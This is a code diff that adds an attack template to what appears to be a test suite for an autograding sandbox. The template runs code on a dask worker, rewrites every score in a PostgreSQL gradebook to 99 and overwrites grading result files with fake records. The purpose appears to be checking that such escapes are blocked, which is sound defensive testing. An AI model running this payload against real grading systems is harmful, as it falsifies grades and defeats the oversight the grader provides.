@@ -298,3 +298,37 @@ def attack_cells(**where) -> dict[str, str]:
     cells = {name: code.format(**where) for name, code in ATTACKS.items()}
     cells["a1-grader-rewrite"] = f"CHECKS = {where['checks']!r}\n" + cells["a1-grader-rewrite"]
     return cells
+
+
+# Not in ATTACKS: for batch grading on a dask cluster with a PostgreSQL gradebook (tests/test_cluster.py).
+# Placeholders: scheduler_port, database_port, course, marker, planted (a path on the grading machine).
+CLUSTER_ATTACK = r'''
+import glob, json, os, socket
+for port in ({scheduler_port}, {database_port}):
+    try:
+        socket.create_connection(("127.0.0.1", port), timeout=2).close()
+    except OSError:
+        pass
+try:  # run code on a dask worker, where no sandbox would stop it
+    from distributed import Client
+    client = Client("tcp://127.0.0.1:{scheduler_port}", timeout=5)
+    client.submit(lambda: open({planted!r}, "w").write("{marker}"), pure=False).result(timeout=20)
+except Exception:
+    pass
+try:  # the gradebook itself: a table to prove it, and every score
+    import psycopg2
+    db = psycopg2.connect(host="127.0.0.1", port={database_port}, user="grader", dbname="postgres", connect_timeout=3)
+    db.cursor().execute('create table "{marker}" (x int); update grade set auto_score = 99')
+    db.commit()
+except Exception:
+    pass
+# the coordinator's state: outcomes (and the hashes that decide what a re-run regrades),
+# the template gradebook, the grading records
+for pattern in ("reports/*/outcomes.json", "build/gradebook-templates/*", "build/results/*/*.json"):
+    for path in glob.glob(os.path.join({course!r}, pattern)):
+        try:
+            with open(path, "w") as handle:
+                json.dump([{{"student": "{marker}", "status": "graded", "score": 99, "digest": ""}}], handle)
+        except OSError:
+            pass
+'''
